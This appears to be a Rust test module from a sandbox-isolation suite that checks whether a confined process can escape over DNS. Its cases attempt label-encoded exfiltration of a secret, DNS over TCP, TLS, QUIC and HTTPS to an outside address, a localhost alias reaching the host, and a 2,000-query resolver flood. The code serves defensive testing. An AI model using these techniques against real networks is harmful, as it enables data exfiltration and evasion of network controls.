//! Names: getting data out by looking them up, and getting in by what they resolve to.

use super::{
    Case,
    Control::{self, Escapes, NotOnHost},
    Outcome,
    Section::NamesLookedUp,
};
use crate::{Field, wire};
use std::{
    net::{Ipv4Addr, SocketAddr, UdpSocket},
    time::Duration,
};

const fn case(name: &'static str, control: Control, attempt: fn(&Field) -> Outcome) -> Case {
    Case { name, section: NamesLookedUp, control, attempt }
}

const RESOLVER: SocketAddr = SocketAddr::new(std::net::IpAddr::V4(Ipv4Addr::LOCALHOST), 53);

pub(super) const CASES: &[Case] = &[
    case("exfiltration by label to a resolver of the host", Escapes, |field| {
        asked(field, field.canary_udp, "c2VjcmV0.denied.test")
    }),
    case("53/UDP elsewhere", NotOnHost, |field| asked(field, ([192, 0, 2, 53], 53).into(), "c2VjcmV0.denied.test")),
    case("53/TCP elsewhere", NotOnHost, |_| dials([192, 0, 2, 53], 53)),
    case("853/TCP elsewhere (DNS over TLS)", NotOnHost, |_| dials([192, 0, 2, 53], 853)),
    case("853/UDP elsewhere (DNS over QUIC)", NotOnHost, |field| {
        asked(field, ([192, 0, 2, 53], 853).into(), "c2VjcmV0.denied.test")
    }),
    case("443/TCP to a resolver's address (DNS over HTTPS)", NotOnHost, |_| dials([192, 0, 2, 53], 443)),
    case("a denied name resolves to a real address", NotOnHost, real_address),
    case("localhost by another name leads to the host", NotOnHost, |field| named(field, "localtest.me")),
    case("two thousand names, and the resolver still answers", NotOnHost, flood),
];

fn query(to: SocketAddr, name: &str) -> std::io::Result<Vec<u8>> {
    let socket = UdpSocket::bind(("0.0.0.0", 0))?;
    socket.set_read_timeout(Some(Duration::from_millis(800)))?;
    socket.send_to(&wire::dns_query(name), to)?;
    let mut answer = [0; 1500];
    let length = socket.recv(&mut answer)?;
    Ok(answer[..length].to_vec())
}

fn asked(field: &Field, to: SocketAddr, name: &str) -> Outcome {
    match query(to, name) {
        Ok(answer) if field.holds_nonce(&answer) => Outcome::Escaped(format!("the resolver at {to} answered")),
        Ok(_) => Outcome::Held("something else answered".to_owned()),
        // Nobody answered, but the question has left: the label is what was to be got out.
        Err(error) if error.kind() == std::io::ErrorKind::WouldBlock && !to.ip().is_loopback() => {
            Outcome::Escaped(format!("a question to {to} left"))
        }
        Err(error) => Outcome::Held(error.to_string()),
    }
}

fn dials(address: [u8; 4], port: u16) -> Outcome {
    Outcome::of(wire::connect((address, port).into()), "connected")
}

fn real_address(field: &Field) -> Outcome {
    match query(RESOLVER, &field.denied_host).map(|answer| wire::dns_address(&answer)) {
        Ok(Some(address)) if field.is_synthetic(address) => Outcome::Held(format!("an invented address, {address}")),
        Ok(Some(address)) => Outcome::Escaped(format!("resolved to {address}")),
        Ok(None) => Outcome::Held("no address".to_owned()),
        Err(error) => Outcome::Held(error.to_string()),
    }
}

/// Whatever the name resolves to, the canary must not be behind it.
fn named(field: &Field, name: &str) -> Outcome {
    let address = query(RESOLVER, name).ok().and_then(|answer| wire::dns_address(&answer));
    let Some(address) = address else { return Outcome::Held("no address".to_owned()) };
    match wire::ask((address, field.canary_tcp.port()).into(), b"\n") {
        Ok(answer) if field.holds_nonce(&answer) => Outcome::Escaped(format!("the canary answered at {address}")),
        Ok(_) => Outcome::Held("something else answered".to_owned()),
        Err(error) => Outcome::Held(error.to_string()),
    }
}

fn flood(field: &Field) -> Outcome {
    let Ok(socket) = UdpSocket::bind(("127.0.0.1", 0)) else { return Outcome::Held("no socket".to_owned()) };
    for number in 0..2_000 {
        let _ = socket.send_to(&wire::dns_query(&format!("n{number}.{}", field.denied_host)), RESOLVER);
    }
    let answers = (0..5).find_map(|_| query(RESOLVER, &field.allowed_host).ok());
    match answers.and_then(|answer| wire::dns_address(&answer)) {
        Some(address) if field.is_synthetic(address) => Outcome::Held("it still answers".to_owned()),
        Some(address) => Outcome::Escaped(format!("resolved to {address}")),
        None => Outcome::Escaped("the resolver no longer answers".to_owned()),
    }
}
